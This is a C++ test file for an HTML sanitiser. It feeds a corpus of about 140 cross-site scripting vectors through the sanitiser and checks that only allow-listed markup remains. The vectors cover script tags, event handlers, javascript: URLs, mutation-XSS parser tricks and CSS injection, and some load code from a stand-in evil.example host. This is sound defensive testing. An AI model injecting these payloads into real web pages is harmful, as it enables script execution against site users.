// SPDX-License-Identifier: AGPL-3.0-or-later
// xss-corpus and css-inject of the hardening cases: vectors of the known families (OWASP's cheat sheet, mutation XSS,
// parser differences). After the sanitiser, a browser's parser finds nothing that the allow-list does not name.
#include <doctest/doctest.h>

#include "base/html.h"
#include "support/html_oracle.h"

using namespace favilla;
using namespace std::string_view_literals;

namespace {

constexpr std::string_view vectors[] = {
    // Scripts, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script\x0b>alert(1)</script>",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>"sv,
    "<script<b>>alert(1)</script>",
    "<!--<script>--><script>alert(1)</script>",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<IMG SRC=# onmouseover=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<b onclick=alert(1)>x</b>",
    "<p/onmouseover=alert(1)>x",
    "<a href=https://e.org onclick=alert(1)>x</a>",
    "<a href=\"https://e.org\"onmouseover=\"alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<isindex onfocus=alert(1)>",
    "<span class=\"mention\" style=\"x\" onclick=\"alert(1)\">x</span>",
    "<p lang='it\" onclick=\"alert(1)'>x</p>",
    "<a href='https://e.org/\" onmouseover=\"alert(1)'>x</a>",
    "<ol start='1\" onclick=\"alert(1)'><li value='1 onclick=alert(1)'>x</ol>",
    "<span class='h-\" onclick=alert(1) x=\"'>x</span>",
    // Schemes.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>"sv,
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"livescript:x\">x</a>",
    "<a href=\"blob:https://e.org/x\">x</a>",
    "<a href=\"filesystem:https://e.org/x\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"https:evil\">x</a>",
    "<a href=\"https://e.org\" href=\"javascript:alert(1)\">x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img src=\"jav\rascript:alert(1)\" alt=\"<script>alert(1)</script>\">",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<base href=\"javascript:alert(1);//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<object data=javascript:alert(1)>",
    "<embed src=data:image/svg+xml;base64,PHN2Zw==>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<frameset><frame src=javascript:alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<applet code=x>",
    // Mutation and parser differences.
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)>\"></svg>",
    "<a title=\"<!--\" href=\"--><img src=x onerror=alert(1)>\">x</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><annotation encoding=\"application/x-tex\"><script>alert(1)</script></annotation></math>",
    "<math><annotation encoding=\"application/x-tex\">&lt;img src=x onerror=alert(1)&gt;</annotation></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\\u0091alert(1)</script x>",
    "<b/x='</b><script>alert(1)</script>'>",
    "<p id=\"</p><script>alert(1)</script>\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<div><div id=x name=y>",
    "<a href=\"https://e.org/`onmouseover=alert(1)\">x</a>",
    "<p title=`x` onclick=`alert(1)`>x",
    "<\xE2\x80\xA8script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xC0\xBCscript\xC0\xBE",
    "\xF0<script>alert(1)</script>",
    "<a\xFF href=javascript:alert(1)>x</a>",
    // Styles.
    "<style>@import'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<span style=\"position:fixed;top:0\" class=\"modal is-admin\">x</span>",
    "<xss style=\"behavior:url(x.htc)\">x</xss>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    // Cut off in the middle.
    "<a href=\"",
    "<a href=https://e.org",
    "<",
    "</",
    "<!",
    "<!-",
    "<p ",
    "<p title='",
    "&#",
    "&#x",
    "&",
    "</script",
    "<img src=\"x\" onerror=\"alert(1)",
};

}  // namespace

TEST_CASE("xss-corpus: nothing but the allow-list comes out, and sanitising again changes nothing")
{
    CHECK(std::size(vectors) >= 120);
    for (auto vector : vectors) {
        CAPTURE(vector);
        auto once = sanitise_html(vector);
        CHECK(test::find_foreign(once.text) == "");
        CHECK(sanitise_html(once.text) == once);
    }
}

TEST_CASE("xss-corpus: the families do not open one another when they stand side by side")
{
    std::string all;
    for (auto vector : vectors) {
        all += vector;
        auto once = sanitise_html(all);
        CHECK(test::find_foreign(once.text) == "");
        CHECK(sanitise_html(once.text) == once);
    }
    for (auto first : vectors)
        for (auto second :
             {"<img src=x onerror=alert(1)>"sv, "\"'><script>alert(1)</script>"sv, "</style></script></svg></math>-->x"sv})
            CHECK(test::find_foreign(sanitise_html(std::string{first}.append(second)).text) == "");
}

TEST_CASE("css-inject: styles, foreign classes and drawings are stripped")
{
    CHECK(sanitise_html("<p style=\"color:red\" class=\"mention\" id=x>a</p>").text == "<p>a</p>");
    CHECK(sanitise_html("<span class=\"modal mention\">a</span>").text == "<span class=\"mention\">a</span>");
    CHECK(sanitise_html("<style>p{}</style><svg><text>x</text></svg>a").text == "a");
}

TEST_CASE("the oracle itself sees what is not allowed")
{
    CHECK(test::find_foreign("<script>x</script>") != "");
    CHECK(test::find_foreign("<p onclick=x>y</p>") != "");
    CHECK(test::find_foreign("<a href=\"javascript:x\">y</a>") != "");
    CHECK(test::find_foreign("<svg></svg>") != "");
    CHECK(test::find_foreign("<p>x<!-- y --></p>") != "");
    CHECK(test::find_foreign("<p>x</p>") == "");
}
